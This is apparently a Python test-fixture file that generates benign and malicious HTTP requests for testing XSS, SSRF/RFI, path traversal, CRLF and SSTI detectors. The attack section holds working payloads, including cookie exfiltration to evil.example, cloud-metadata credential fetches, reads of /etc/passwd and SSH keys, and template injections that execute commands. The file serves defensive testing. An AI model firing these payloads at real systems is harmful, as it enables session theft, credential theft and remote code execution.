"""Requests build_own.py writes as test/corpus/own/<class>/<label>/engine-xss-NNN.http: realistic benign
traffic around the XSS, RFI/SSRF, CRLF, path traversal and SSTI detectors (rich text, pasted code,
links, uploads, multi-line text, templates) and attacks in shapes and places the other own files lack.
Keys are corpus class directories. Append new requests at the end of a list: the number in a file
name is the request's position.
"""
import urllib.parse

import request_builders

UA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"
q = urllib.parse.quote
request, get, form, js = request_builders.builders("app.example.com", UA, ("Accept-Language: en-US,en;q=0.9",))
def multipart(path, fields, files=()):
    b = "----WebKitFormBoundaryq8Zt3kLm"
    parts = [f'--{b}\r\nContent-Disposition: form-data; name="{n}"\r\n\r\n{v}\r\n' for n, v in fields]
    parts += [f'--{b}\r\nContent-Disposition: form-data; name="{n}"; filename="{fn}"\r\nContent-Type: {ct}\r\n\r\n{c}\r\n'
              for n, fn, ct, c in files]
    parts.append(f"--{b}--\r\n")
    return request("POST", path, (), "".join(parts), f"multipart/form-data; boundary={b}")

BENIGN = {
 "benign_markup": [
  form("/forum/reply", {"body": "To show a value use <code>{{ value }}</code>; if x < 10 and y > 3 the branch runs.", "thread": "8812"}),
  js("/api/comments", {"post": 77, "html": "<p>Great article! I <strong>loved</strong> the part about <a href=\"https://developer.mozilla.org/en-US/docs/Web/HTML\">HTML</a>.</p><ul><li>clear</li><li>short</li></ul>"}),
  js("/api/paste", {"title": "debounce helper", "language": "javascript", "code": "function debounce(fn, ms) {\n  let t;\n  return (...args) => {\n    clearTimeout(t);\n    t = setTimeout(() => fn(...args), ms);\n  };\n}\nwindow.addEventListener('resize', debounce(onResize, 200));"}),
  js("/api/paste", {"title": "react component", "language": "jsx", "code": "import React from 'react';\nexport default function Hello({ name }) {\n  return <div className=\"hello\">Hello {name}</div>;\n}"}),
  js("/api/paste", {"title": "python", "language": "python", "code": "import os\nfor root, dirs, files in os.walk('.'):\n    if len(files) > 3 and root != '.':\n        print(root, len(files))"}),
  form("/wiki/save", {"page": "Onboarding", "text": "## Setup\n\n1. Clone the repo\n2. Run `make dev`\n3. Open [the dashboard](https://dashboard.example.com/home)\n\n> Note: values < 0 are ignored.\n\n![diagram](https://cdn.example.com/img/arch.png)"}),
  get("/search", {"q": "how to escape <script> in html"}),
  get("/search", {"q": "onclick vs addEventListener"}),
  get("/search", {"q": "javascript: the definitive guide pdf"}),
  get("/search", {"q": "document.cookie samesite lax"}),
  form("/math/submit", {"answer": "x < 2 or x > 5, so f(x) = (x-2)(x-5) > 0", "task": "ineq-4"}),
  js("/api/notes", {"title": "Meeting", "body": "Agenda: alert the on-call team if p99 > 300ms; confirm budget (Q3); prompt engineering talk at 14:00"}),
  js("/api/cms/blocks", {"type": "rich_text", "html": "<h2 id=\"intro\">Intro</h2><p style=\"text-align:center;color:#333\">Welcome to <em>our</em> shop.</p><img src=\"/media/banner.webp\" alt=\"Spring sale\" width=\"800\" height=\"200\"><table class=\"prices\"><tr><th>Plan</th><th>Price</th></tr><tr><td>Basic</td><td>&euro;5</td></tr></table>"}),
  form("/support/ticket", {"subject": "Page shows <br> tags", "message": "After the update the product page prints literal <br> and &lt;b&gt; in the description. Browser: Firefox 124."}),
  js("/api/snippets", {"lang": "html", "source": "<!doctype html>\n<html lang=\"en\">\n<head><meta charset=\"utf-8\"><title>Demo</title><link rel=\"stylesheet\" href=\"style.css\"></head>\n<body><h1>Demo</h1><p>Edit me</p></body>\n</html>"}),
  get("/docs/search", {"q": "window.location vs document.location"}),
  form("/chat/send", {"room": "dev", "msg": "<3 thanks! the fix for x<y && y>z works :-)"}),
  js("/api/translations", {"key": "cart.total", "en": "Total: {amount} (incl. VAT)", "de": "Summe: {amount} (inkl. MwSt.)"}),
  get("/blog/tag/onboarding", {"page": "2", "sort": "newest"}),
  js("/api/cms/blocks", {"type": "html", "html": "<span class=\"icon\"><svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\" width=\"16\" height=\"16\"><path d=\"M12 2L2 22h20z\" fill=\"currentColor\"/></svg></span> Heads up: maintenance on Sunday"}),
  js("/api/email-templates", {"name": "receipt", "html": "<html><head><style>body{font-family:Arial,sans-serif;color:#222} .total{font-weight:bold}</style></head><body><p>Thanks for your order!</p><p class=\"total\">Total: 42.00 EUR</p></body></html>"}),
  get("/search", {"q": "console.log not working in production build"}),
  get("/search", {"q": "process.env variables in docker compose"}),
  js("/api/posts", {"title": "Why eval() is evil", "markdown": "Calling `eval()` on user input lets anyone run code. Prefer `JSON.parse` and a lookup table instead of building expressions."}),
  js("/api/posts", {"title": "Launch video", "html": "<p>Our launch event:</p><iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/aqz-KE-bpKQ\" title=\"YouTube video player\" frameborder=\"0\" allow=\"accelerometer; autoplay; clipboard-write; encrypted-media\" allowfullscreen></iframe>"}),
  js("/api/cms/blocks", {"type": "nav", "html": "<nav style=\"scroll-behavior: smooth\"><a href=\"javascript:void(0)\" class=\"menu-toggle\">Menu</a><ul><li><a href=\"/shop\">Shop</a></li></ul></nav>"}),
  js("/api/paste", {"title": "consent banner", "language": "javascript", "code": "function hasConsent() {\n  return document.cookie.split('; ').some(c => c.startsWith('consent=yes'));\n}\nif (!hasConsent()) {\n  document.getElementById('banner').hidden = false;\n}"}),
 ],
 "benign_links": [
  js("/api/webhooks", {"url": "https://hooks.slack.com/services/T000/B000/XXXX", "events": ["order.created", "order.paid"], "active": True}),
  get("/oauth/authorize", {"client_id": "web-app", "response_type": "code", "redirect_uri": "https://app.example.com/oauth/callback", "scope": "openid profile email", "state": "af0ifjsldkj"}),
  get("/login", {"next": "https://app.example.com/settings/billing?tab=invoices"}),
  get("/out", {"url": "https://www.nytimes.com/2026/03/01/technology/ai.html"}),
  get("/viewer.html", {"file": "https://cdn.example.com/manuals/router-x200.pdf"}),
  js("/api/profile", {"website": "https://jane.dev", "github": "https://github.com/janedoe", "avatar": "https://avatars.githubusercontent.com/u/123456?v=4"}),
  form("/comments", {"text": "Docs are at https://docs.example.com/v2/ and the source at https://gitlab.com/org/project. For local dev open http://localhost:8080 after `npm start`.", "post": "12"}),
  js("/api/integrations", {"provider": "s3", "bucket": "reports-prod", "endpoint": "https://s3.eu-central-1.amazonaws.com", "path_prefix": "exports/2026/"}),
  get("/share", {"u": "https://example.org/articles/42?utm_source=twitter&utm_medium=social", "title": "Read this"}),
  js("/api/feeds", {"feeds": ["https://blog.rust-lang.org/feed.xml", "https://go.dev/blog/feed.atom", "http://feeds.bbci.co.uk/news/rss.xml"]}),
  get("/img/proxy", {"src": "https://images.unsplash.com/photo-1503023345310-bd7c1de61c7d?w=800&q=80"}),
  js("/api/sso", {"saml_metadata_url": "https://login.microsoftonline.com/tenant-id/federationmetadata/2007-06/federationmetadata.xml", "entity_id": "urn:example:app"}),
  form("/settings/dns", {"resolver": "https://1.1.1.1/dns-query", "fallback": "8.8.8.8"}),
  js("/api/links", {"items": [{"href": "mailto:sales@example.com"}, {"href": "tel:+4930123456"}, {"href": "https://maps.google.com/?q=52.52,13.405"}]}),
  get("/redirect", {"to": "https://partner.example.net/landing?ref=abc123&lang=en"}),
  js("/api/repos/import", {"clone_url": "https://github.com/torvalds/linux.git", "branch": "master"}),
  form("/contact", {"name": "Ana", "email": "ana@example.com", "message": "My site https://ana-photography.example is down since yesterday, can you check?"}),
  get("/api/geo", {"callback_url": "https://app.example.com/geo/done", "ip": "203.0.113.77"}),
  js("/api/templates/include", {"template_path": "emails/welcome.html", "partials": ["header", "footer"]}),
  get("/docs", {"page": "https://example.com/docs/intro?"}),
  get("/oauth/authorize", {"client_id": "cli-tool", "response_type": "code", "redirect_uri": "http://127.0.0.1:8085/callback", "code_challenge": "E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM", "code_challenge_method": "S256"}),
  js("/api/settings", {"return_path": "https://app.example.com/dashboard", "file_link": "https://files.example.com/share/abc123"}),
 ],
 "benign_files": [
  multipart("/upload", [("folder", "reports/2026/q3"), ("visibility", "team")], [("file", "q3.pdf", "application/pdf", "%PDF-1.7 fake")]),
  multipart("/upload", [("path", "photos/2025/summer/")], [("file", "IMG_2041.jpg", "image/jpeg", "JFIF...")]),
  js("/api/files/move", {"from": "drafts/proposal-v2.docx", "to": "archive/2026/proposal-v2.docx"}),
  get("/files", {"dir": "projects/website/src/components", "sort": "name"}),
  get("/download", {"file": "invoices/2026-03/INV-10023.pdf"}),
  js("/api/editor/open", {"path": "src/main/java/com/example/App.java", "line": 42}),
  # Benign on purpose: a known program with ordinary arguments and no separator, substitution,
  # redirection or sensitive path breaks out of nothing. Apps that run commands by design (IDEs,
  # CI runners) send exactly this; "cmd=cat /etc/passwd" or "x; id" are still attacks.
  form("/ide/run", {"cwd": "/home/dev/app", "cmd": "npm test -- --watch=false"}),
  js("/api/git/compare", {"range": "v1.4.0..v1.5.0", "path": "docs/"}),
  get("/docs/view", {"page": "guides/../guides/install.md"}),
  js("/api/import", {"source": "C:\\Users\\maria\\Documents\\contacts.csv", "delimiter": ";"}),
  form("/forum/reply", {"body": "Go one level up with `cd ..` and then run ./build.sh. The config lives in /etc/myapp/config.yaml on Debian.", "thread": "310"}),
  get("/static/app.min.js", {"v": "1.2.3"}),
  js("/api/backup/settings", {"target_dir": "/var/backups/app", "keep": 7}),
  get("/breadcrumbs", {"trail": "Home > Products > Laptops > 14 inch"}),
  js("/api/notes", {"text": "Wait... what?! The build went from 3.1s to 12.4s..."}),
 ],
 "benign_text": [
  form("/contact", {"name": "Bob", "message": "Hello,\r\n\r\nI ordered item #4411 last week.\r\nOrder date: 2026-03-02\r\nStatus: still pending\r\n\r\nThanks,\r\nBob"}),
  js("/api/addresses", {"label": "home", "address": "Flat 3\n221B Baker Street\nLondon NW1 6XE\nUnited Kingdom"}),
  multipart("/import/csv", [("mode", "append")], [("file", "contacts.csv", "text/csv", "name,email,city\r\nAna,ana@example.com,Lisbon\r\nBo,bo@example.com,Oslo\r\n")]),
  js("/api/mail/draft", {"to": "team@example.com", "subject": "Release notes", "body": "Hi all,\n\nVersion: 2.4.1\nDate: 2026-03-10\nHighlights: faster search, new export\n\nCheers"}),
  form("/feedback", {"rating": "4", "comment": "Location: Berlin office\nFloor: 3\nIssue: the coffee machine is broken again"}),
  get("/search", {"q": "content-type header json vs form"}),
  js("/api/logs/annotate", {"note": "Error: timeout after 30s\nCause: upstream slow\nAction: raised limit"}),
  form("/profile", {"bio": "Engineer.\nLikes: climbing, jazz\nLanguages: EN, PT"}),
 ],
 "benign_templates": [
  js("/api/email-templates", {"name": "welcome", "body": "Hi {{ first_name }},\n\nWelcome to {{ company }}! Your plan: {{ plan | upper }}.\n\n{% if trial %}Your trial ends {{ trial_end }}.{% endif %}"}),
  js("/api/i18n", {"key": "items.count", "value": "You have ${count} items in your cart"}),
  form("/cms/save", {"tpl": "<div class=\"card\">{{#each products}}<h3>{{name}}</h3><p>{{price}}</p>{{/each}}</div>"}),
  js("/api/pricing", {"label": "Starting at ${price}/month", "note": "Use #{promo} as a placeholder"}),
  js("/api/config", {"log_format": "%h %l %u %t \"%r\" %>s %b", "greeting": "Hello, ${user.firstName}!"}),
  get("/search", {"q": "jinja2 {{ loop.index }} example"}),
 ],
}

ATTACKS = {
 "xss": [
  js("/api/comments", {"post": 77, "html": "<p>nice</p><img src=x onerror=\"fetch('https://evil.example/c?'+document.cookie)\">"}),
  get("/search", {"q": "\"><svg/onload=alert(document.domain)>"}),
  form("/profile", {"website": "javascript:alert(document.cookie)"}),
  get("/p", {"name": "x' onmouseover='alert(1)' a='"}),
  js("/api/cms/blocks", {"html": "<a href=\"jav&#x09;ascript:alert(1)\">click</a>"}),
  get("/", headers=("Cookie: theme=" + q("<script>alert(1)</script>"),)),
  get("/r", {"cb": "';top['al'+'ert'](1);//"}),
  form("/chat/send", {"msg": "<details open ontoggle=confirm(1)>"}),
  get("/q", {"x": "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"}),
  js("/api/paste", {"code": "</textarea><script>new Image().src='//evil.example/?'+document.cookie</script>"}),
  get("/profile", {"u": "ja&tab;vascript:alert(1)"}),
  get("/x", {"v": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"}),
 ],
 "rfi_ssrf": [
  js("/api/webhooks", {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "events": ["x"]}),
  get("/img/proxy", {"src": "http://[::ffff:127.0.0.1]:6379/"}),
  get("/fetch", {"url": "http://0x7f.0.0.1:8080/admin"}),
  form("/import", {"feed": "gopher://127.0.0.1:11211/_stats"}),
  get("/preview", {"link": "http://evil.example@10.0.0.8/internal"}),
  get("/index.php", {"page": "http://evil.example/shell.txt?"}),
  js("/api/avatar", {"url": "http://①②⑦.⓪.⓪.①/"}),
  get("/fetch", {"url": "//127.0.0.1/admin"}),
  get("/index.php", {"file": "php://filter/convert.base64-encode/resource=config.php"}),
  js("/api/render", {"src": "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="}),
 ],
 "path_traversal": [
  get("/download", {"file": "../../../../etc/passwd"}),
  get("/download", {"file": "..%2f..%2f..%2fetc%2fshadow"}),
  multipart("/upload", [("folder", "x")], [("file", "../../../var/www/html/shell.php", "text/plain", "<?php ?>")]),
  js("/api/files/read", {"path": "....//....//....//proc/self/environ"}),
  get("/view", {"template": "..\\..\\..\\windows\\win.ini"}),
  get("/img", {"f": "..%c0%af..%c0%afetc%c0%afpasswd"}),
  get("/static/..%2f..%2f..%2fetc/passwd"),
  get("/load", {"p": "/./././././etc/passwd"}),
  js("/api/keys", {"file": ".ssh/id_rsa"}),
 ],
 "crlf": [
  get("/redirect", {"url": "/home\r\nSet-Cookie: sid=attacker; Path=/"}),
  form("/lang", {"lang": "en\r\nX-XSS-Protection: 0"}),
  get("/r", {"to": "嘊嘍Set-Cookie: x=1"}),
  get("/track", headers=("Referer: https://x.example/%0d%0aLocation:%20https://evil.example",)),
  request("POST", "/submit", (), "a=1", "application/x-www-form-urlencoded;boundary=\"application/json\""),
 ],
 "ssti": [
  js("/api/email-templates", {"body": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}),
  get("/greet", {"name": "${T(java.lang.Runtime).getRuntime().exec('id')}"}),
  form("/preview", {"tpl": "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"}),
  get("/hello", {"n": "{{7*'7'}}"}),
  get("/r", {"x": "@(7*7)"}),
 ],
}
